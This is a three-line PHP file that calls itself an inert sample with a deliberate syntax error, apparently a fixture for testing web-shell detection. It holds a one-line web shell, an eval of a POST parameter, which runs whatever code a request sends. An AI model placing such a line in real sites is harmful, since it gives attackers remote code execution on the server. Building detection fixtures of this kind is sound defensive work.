<?php
shodo inert sample: deliberate syntax error, this file never runs
 eval($GLOBALS['_POST']['x']); ?>
